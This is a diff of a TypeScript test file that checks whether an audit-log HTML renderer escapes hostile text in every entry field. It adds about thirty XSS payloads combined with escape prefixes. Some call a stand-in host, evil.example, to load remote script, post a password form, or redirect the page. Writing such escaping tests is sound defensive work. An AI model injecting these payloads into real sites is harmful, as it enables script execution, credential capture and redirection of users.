@@ -2,6 +2,7 @@ import { type AuditEntry, auditEntrySchema } from '@order-automation/contracts';
 import fc from 'fast-check';
 import { type DefaultTreeAdapterMap, parseFragment } from 'parse5';
 import { renderEntry } from './entry';
+import { renderPage } from './render';
 
 const entry = (overrides: Partial<AuditEntry> = {}): AuditEntry =>
   auditEntrySchema.parse({
@@ -56,40 +57,92 @@ test('an entry says what happened, when, to what, and each condition with what w
   expect(html).not.toContain('Reason');
 });
 
-const payloads = [
+/** Markup that does something wherever a browser takes it for markup. */
+const markup = [
   '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  "' onmouseover='alert(1)",
-  '</h3></article><style>*{display:none}</style>',
+  '<script src=//evil.example/x.js></script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
+  '<iframe src=javascript:alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">click</a>',
+  '<body onload=alert(1)>',
+  '<form action=//evil.example><input name=password>',
+  '<style>*{display:none}</style>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<base href=//evil.example/>',
+  '<object data=data:text/html,x></object>',
+  '<embed src=x>',
+  '<template><b>x</b></template>',
+  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<details open ontoggle=alert(1)>',
   '<!--',
-  '&lt;b&gt;',
-  '\u0000<svg/onload=alert(1)>',
-  ']]>',
-  '</textarea><iframe src=javascript:alert(1)>',
+  '--><b>x</b>',
+  '<![CDATA[<b>x</b>]]>',
+  '<?php echo 1 ?>',
+  '</title></textarea></select><b>x</b>',
+  '&lt;b&gt;x&lt;/b&gt;',
+  '&#60;b&#62;x',
+  '\u0000<b>x</b>',
+  '<\u0000b>x',
+  '\uff1cscript\uff1ealert(1)',
 ];
+/** Ways out of the place where a text stands. */
+const waysOut = [
+  '',
+  '">',
+  "' onmouseover='alert(1)' x='",
+  '</dd></dl></td></tr></table></h3></time></article></li></ol></section>',
+];
+const payloads = markup.flatMap((text) => waysOut.map((out) => `${out}${text}`));
 
-test('markup in any text adds no element and no attribute', () => {
+/** An entry, and the process around it, with a text in one of its fields. Enumerations too: what is stored may be older than they are. */
+const places: Readonly<Record<string, (text: string) => Partial<Record<keyof AuditEntry, unknown>>>> = {
+  summary: (text) => ({ summary: text }),
+  'process id': (text) => ({ process_id: text }),
+  status: (text) => ({ status: text }),
+  'event type': (text) => ({ event_type: text }),
+  source: (text) => ({ source: text }),
+  timestamp: (text) => ({ timestamp: text }),
+  'name of a detail': (text) => ({ details: { [text]: 'value' } }),
+  'name below a detail': (text) => ({ details: { deep: { a: { [text]: { [text]: 1 } } } } }),
+  detail: (text) => ({ details: { note: text } }),
+  'list of details': (text) => ({ details: { list: [text, text], objects: [{ a: text }, [text]] } }),
+  'deep detail': (text) => ({ details: { a: { b: { c: { d: { e: { f: { g: text } } } } } } } }),
+  condition: (text) => ({
+    details: { conditions: [{ id: text, label: text, result: text, expected: text, actual: text, reason: text }] },
+  }),
+  action: (text) => ({ details: { actions: [{ label: text, status: text, message: { why: [text] } }] } }),
+  change: (text) => ({ details: { changes: [{ field: text, from: text, to: [text] }] } }),
+};
+
+test.each(Object.keys(places))('120 pieces of markup in a %s add no element and no attribute', (place) => {
+  expect(new Set(payloads).size).toBe(120);
+  const shapeWith = (text: string) => {
+    const fields = places[place]?.(text);
+    const logs = [{ ...entry(), ...fields } as AuditEntry];
+    const id = logs[0]?.process_id ?? '';
+    return [...logs.map(renderEntry), renderPage(id, logs, 'process'), renderPage(id, logs, 'entry')].map(({ html }) =>
+      shape(parseFragment(html)),
+    );
+  };
+  const wanted = shapeWith('x plain');
+  for (const payload of payloads) expect([payload, shapeWith(`x ${payload}`)]).toEqual([payload, wanted]);
+});
+
+test('any text adds no element and no attribute', () => {
   const plain = (text: string) =>
     entry({
       summary: text,
-      process_id: 'proc_1',
-      details: {
-        conditions: [{ label: text, result: 'pass', expected: text }],
-        note: text,
-        list: [text, text],
-        deep: { a: { b: text } },
-      },
+      details: { conditions: [{ label: text, result: 'pass', expected: text }], note: text, deep: { a: { b: text } } },
     });
   const wanted = shape(parseFragment(renderEntry(plain('plain')).html));
   fc.assert(
-    fc.property(fc.oneof(fc.constantFrom(...payloads), fc.string({ minLength: 1 })), (text) => {
+    fc.property(fc.string({ minLength: 1, unit: 'binary' }), (text) => {
       expect(shape(parseFragment(renderEntry(plain(`x${text}`)).html))).toEqual(wanted);
-      const named = entry({ details: { [text]: 'value' } });
-      expect(
-        shape(parseFragment(renderEntry(named).html)).filter((one) =>
-          /script|img|svg|iframe|on/.test(one.split('[')[1] ?? ''),
-        ),
-      ).toEqual([]);
     }),
     { numRuns: 500 },
   );
